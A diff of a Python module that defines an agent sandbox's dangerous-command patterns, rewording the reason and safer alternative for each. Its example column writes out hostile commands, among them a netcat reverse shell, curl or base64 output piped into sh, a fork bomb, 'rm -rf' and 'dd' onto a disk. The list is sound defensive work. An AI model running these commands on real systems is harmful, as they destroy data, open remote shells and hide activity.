@@ -1,7 +1,6 @@
-"""The shipped patterns of dangerous commands: what each is called, why it asks, and what to do instead.
+"""The shipped patterns of dangerous commands: the name of each, why it asks, and what to do instead.
 
-Which commands fit a pattern is told by the modules of `programs`; here is only what is said of it, for the question, for the denial
-and for the docs.
+The modules of `programs` find the commands that fit. The texts here are for the question, the denial and `docs/commands.md`.
 """
 
 from __future__ import annotations
@@ -20,41 +19,41 @@ class Pattern(NamedTuple):
 
 _ROWS = (
     ("recursive_delete", "it deletes a whole folder without asking", "delete the files by name", "rm -rf build"),
-    ("broad_delete", "it deletes more than one can see from the command", "name the files that are to go", "rm *"),
-    ("find_delete", "it deletes whatever a search finds", "delete what it finds by name", "find . -name '*.o' -delete"),
-    ("sync_delete", "it deletes at the target what the source hasn't got", "copy without --delete", "rsync -a --delete a/ b/"),
-    ("overwrite", "it destroys what files hold beyond recovery", "delete files instead", "shred -u key"),
-    ("truncate", "it empties a file", "write what the file is to hold with write_file", ": > app.log"),
-    ("broad_move", "it moves more than one can see from the command", "name the files that are to be moved", "mv ~ /tmp"),
+    ("broad_delete", "it can delete more than the command shows", "name the files", "rm *"),
+    ("find_delete", "it deletes all files that a search finds", "delete the files by name", "find . -name '*.o' -delete"),
+    ("sync_delete", "it deletes files at the target that the source lacks", "copy without --delete", "rsync -a --delete a/ b/"),
+    ("overwrite", "it destroys the content of files beyond recovery", "delete the files instead", "shred -u key"),
+    ("truncate", "it empties a file", "write the new content with write_file", ": > app.log"),
+    ("broad_move", "it can move more than the command shows", "name the files", "mv ~ /tmp"),
     ("raw_disk", "it writes to a device or makes a file system on one", "work on files", "dd if=x of=/dev/sda"),
-    ("system_files", "it changes or enters folders of the system", "keep to the workspace", "tee /etc/hosts"),
-    ("startup_file", "it touches what shells run when they start", "set variables in the command itself", "echo x >> ~/.bashrc"),
-    ("git_hooks", "it touches what git keeps, and its hooks run later", "use git's own operations", "cp x .git/hooks/pre-commit"),
-    ("git_config", "it changes how git runs, and which programs it runs", "do without the setting", "git config core.hooksPath x"),
-    ("git_force_push", "it takes away what others have pushed", "push without force", "git push --force"),
-    ("git_discard", "it throws away work that git can't bring back", "commit or stash it first", "git reset --hard"),
-    ("download_to_interpreter", "it runs what a server sends", "download it, and look at it first", "curl example.org | sh"),
-    ("decoded_to_interpreter", "it runs what is hidden by an encoding", "write the commands plainly", "base64 -d x | sh"),
-    ("eval", "it runs a text that is only put together then", "write the command itself", "eval ls"),
-    ("reverse_shell", "it joins a shell or a file to the network", "use http_request or fetch_url", "nc -e /bin/sh 192.0.2.1 4444"),
+    ("system_files", "it changes or enters folders of the system", "stay in the workspace", "tee /etc/hosts"),
+    ("startup_file", "it touches files that shells run at start", "set variables in the command itself", "echo x >> ~/.bashrc"),
+    ("git_hooks", "it touches git's own files, and git runs hooks later", "use git's own operations", "cp x .git/hooks/pre-commit"),
+    ("git_config", "it changes how git works and which programs it runs", "do without the setting", "git config core.hooksPath x"),
+    ("git_force_push", "it removes commits that others have pushed", "push without force", "git push --force"),
+    ("git_discard", "it discards work that git can't restore", "commit or stash it first", "git reset --hard"),
+    ("download_to_interpreter", "it runs code that a server sends", "download it, and read it first", "curl example.org | sh"),
+    ("decoded_to_interpreter", "it runs code hidden by an encoding", "write the commands as plain text", "base64 -d x | sh"),
+    ("eval", "it runs a text that is put together at run time", "write the command itself", "eval ls"),
+    ("reverse_shell", "it connects a shell to the network", "use http_request or fetch_url", "nc -e /bin/sh 192.0.2.1 4444"),
     ("remote", "it works on another machine", "work in the workspace", "ssh host ls"),
-    ("privileges", "it runs as another user or in another root", "do it as the user that one is", "sudo ls"),
-    ("permissions", "it lets everybody write, or programs run as their owner", "give the owner what is needed", "chmod -R 777 ."),
-    ("ownership", "it gives whole folders to another user", "leave their owner as it is", "chown -R root ."),
+    ("privileges", "it runs as another user or in another root", "run it as the present user", "sudo ls"),
+    ("permissions", "it lets everybody write, or programs run as their owner", "give rights to the owner only", "chmod -R 777 ."),
+    ("ownership", "it gives whole folders to another user", "keep their owner", "chown -R root ."),
     ("accounts", "it changes users, groups or passwords", "do without", "useradd eve"),
-    ("kill_all", "it ends processes by a name or all of them", "end a process by its number", "kill -9 -1"),
+    ("kill_all", "it ends processes by name, or all of them", "end one process by its number", "kill -9 -1"),
     ("power", "it stops the machine", "do without", "shutdown now"),
     ("scheduled", "it leaves work behind for later", "do the work now", "crontab x"),
     ("services", "it changes the services of the system", "do without", "systemctl stop nginx"),
     ("firewall", "it changes how the machine is reached", "do without", "iptables -F"),
-    ("mounts", "it changes what the file system is made of", "do without", "mount /dev/sda1 /mnt"),
+    ("mounts", "it mounts or unmounts file systems", "do without", "mount /dev/sda1 /mnt"),
     ("kernel", "it changes the kernel or its settings", "do without", "insmod x.ko"),
-    ("history", "it clears the record of what was done", "do without", "history -c"),
-    ("containers", "it starts or changes what runs outside this sandbox", "run the program itself", "docker run x"),
-    ("global_install", "it installs software, which runs code of its own", "ask the owner for what is missing", "pip install x"),
-    ("environment", "it changes what the programs after it are or load", "call the program by its path", "PATH=. ls"),
+    ("history", "it clears the record of past commands", "do without", "history -c"),
+    ("containers", "it starts or changes programs outside this sandbox", "run the program itself", "docker run x"),
+    ("global_install", "it installs software, which runs its own code", "ask the owner to install it", "pip install x"),
+    ("environment", "it changes which programs run afterwards, or what they load", "call the program by its path", "PATH=. ls"),
     ("fork_bomb", "it starts itself again and again", "use a loop with an end", ":(){ :|:& };:"),
-    ("unreadable", "it can't be read with certainty", "write it plainly, in several commands", "echo 'x"),
+    ("unreadable", "it can't be parsed with certainty", "write it more simply, as several commands", "echo 'x"),
     ("listed", "the rules list it as dangerous", "do without, or ask for it", ""),
 )  # fmt: skip
 
